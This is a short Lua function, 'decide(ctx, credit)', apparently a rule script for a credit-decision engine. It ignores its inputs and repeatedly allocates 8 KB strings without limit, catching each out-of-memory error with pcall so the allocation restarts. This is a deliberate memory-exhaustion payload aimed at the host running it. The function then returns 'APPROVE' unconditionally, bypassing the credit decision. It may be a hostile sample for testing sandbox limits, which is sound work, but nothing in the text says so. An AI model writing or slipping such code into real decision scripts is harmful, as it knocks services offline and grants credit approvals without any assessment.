function decide(ctx, credit)
local t = {}
for k = 1, 100 do pcall(function() while true do t[#t + 1] = ('x'):rep(8192) .. #t end end) end
return {outcome = 'APPROVE'}
end
